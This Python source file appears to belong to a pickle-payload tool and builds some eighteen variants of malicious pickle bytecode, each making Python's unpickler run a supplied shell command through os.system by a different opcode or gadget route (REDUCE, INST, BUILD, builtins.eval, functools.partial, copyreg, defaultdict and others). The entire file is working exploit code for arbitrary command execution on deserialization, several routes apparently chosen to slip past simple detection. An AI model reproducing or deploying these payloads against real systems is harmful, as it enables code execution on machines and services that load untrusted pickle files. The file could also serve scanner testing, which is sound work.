"""Opcodes that run a shell command in Python's own unpickler, by what runs it."""

from __future__ import annotations

from collections.abc import Callable

from forge import global_opcode, plain

SYSTEM = global_opcode("os", "system")


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def lazy_call(command: bytes) -> bytes:
    """map(os.system, [command]): runs when something consumes it."""
    return call(global_opcode("builtins", "map"), SYSTEM, b"(" + command + b"l")


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "REDUCE": lambda c: call(SYSTEM, c),
    "REDUCE, fixed arity": lambda c: SYSTEM + c + b"\x85R",
    "STACK_GLOBAL": lambda c: b"\x8c\x02os\x8c\x06system\x93" + c + b"\x85R",
    "INST": lambda c: b"(" + c + b"ios\nsystem\n",
    "OBJ": lambda c: b"(" + SYSTEM + c + b"o",
    "NEWOBJ": lambda c: global_opcode("builtins", "tuple") + b"(" + lazy_call(c) + b"t\x81",
    "NEWOBJ_EX": lambda c: global_opcode("builtins", "tuple") + b"(" + lazy_call(c) + b"t}\x92",
    "BUILD": lambda c: (
        call(global_opcode("types", "SimpleNamespace"))
        + b"}"
        + plain("__setstate__")
        + SYSTEM
        + b"sb"
        + c
        + b"b"
    ),
    "APPENDS": lambda c: (
        call(global_opcode("types", "SimpleNamespace")) + b"}" + plain("append") + SYSTEM + b"sb(" + c + b"e"
    ),
    "builtins.eval": lambda c: call(
        global_opcode("builtins", "eval"),
        plain("__import__('os').system(command)"),
        b"}" + plain("command") + c + b"s",
    ),
    "builtins.getattr": lambda c: call(
        call(
            global_opcode("builtins", "getattr"),
            call(global_opcode("builtins", "__import__"), plain("os")),
            plain("system"),
        ),
        c,
    ),
    "functools.partial": lambda c: call(call(global_opcode("functools", "partial"), SYSTEM, c)),
    "operator.methodcaller": lambda c: call(
        call(global_opcode("operator", "methodcaller"), plain("system"), c),
        call(global_opcode("builtins", "__import__"), plain("os")),
    ),
    "copyreg.__newobj__": lambda c: call(
        global_opcode("copyreg", "__newobj__"), global_opcode("builtins", "tuple"), lazy_call(c)
    ),
    "copyreg._reconstructor": lambda c: call(
        global_opcode("copyreg", "_reconstructor"),
        global_opcode("builtins", "tuple"),
        global_opcode("builtins", "tuple"),
        lazy_call(c),
    ),
    "builtins.set": lambda c: call(global_opcode("builtins", "set"), lazy_call(c)),
    "collections.OrderedDict": lambda c: call(
        global_opcode("collections", "OrderedDict"),
        call(global_opcode("builtins", "zip"), lazy_call(c), lazy_call(c)),
    ),
    "defaultdict": lambda c: call(
        global_opcode("operator", "getitem"),
        call(
            global_opcode("collections", "defaultdict"),
            call(global_opcode("functools", "partial"), SYSTEM, c),
        ),
        plain("missing"),
    ),
}
